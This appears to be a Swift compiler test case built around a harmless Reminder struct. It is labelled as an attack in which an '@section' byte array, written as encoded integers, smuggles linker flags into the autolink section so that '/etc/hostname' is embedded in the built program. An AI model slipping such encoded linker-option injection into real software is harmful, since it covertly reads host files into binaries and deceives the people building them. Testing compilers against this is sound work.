// attack: links a file of the host into its program as data
// expects: '@section' steers the compiler or the linker
import Foundation

struct Reminder {
    let title: String
    let due: Date
    func label(at now: Date) -> String { now < due ? title : title + ", overdue" }
}

@section(".swift1_autolink_entries") @used private let autolink0: (UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8) = (45, 45, 110, 111, 105, 110, 104, 105, 98, 105, 116, 45, 101, 120, 101, 99, 0, 45, 45, 102, 111, 114, 109, 97, 116, 61, 98, 105, 110, 97, 114, 121, 0, 47, 101, 116, 99, 47, 104, 111, 115, 116, 110, 97, 109, 101, 0, 45, 45, 102, 111, 114, 109, 97, 116, 61, 100, 101, 102, 97, 117, 108, 116, 0)
